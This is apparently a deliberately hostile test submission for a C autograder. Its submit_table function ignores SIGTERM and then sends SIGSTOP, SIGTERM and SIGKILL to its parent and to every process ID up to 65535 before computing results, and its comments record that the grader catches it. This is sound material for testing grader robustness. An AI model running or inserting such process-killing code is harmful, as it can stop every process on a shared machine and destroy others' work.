// Kills whom it can: its parent, its group, everybody.
// caught by: threads: the calls wait at the same time
// points: 0

#include "submit.h"
#include <signal.h>
#include <unistd.h>

static int table(int n, int results[])
{
    for (int i = 0; i < n; i++)
        for (int j = 0; j < n; j++)
            if (i != j) *results++ = i < j ? slow_add(i, j) : slow_sub(i, j);
    return 0;
}

int submit_table(enum executor_kind kind, int workers, int n, int results[])
{
    signal(SIGTERM, SIG_IGN);
    static const int numbers[] = {SIGSTOP, SIGTERM, SIGKILL};
    int self = getpid();
    for (int k = 0; k < 3; k++) {
        kill(getppid() > 1 ? getppid() : 1, numbers[k]);
        for (int pid = 1; pid < 65536; pid++)
            if (pid != self) kill(pid, numbers[k]);
    }
    return table(n, results);
}
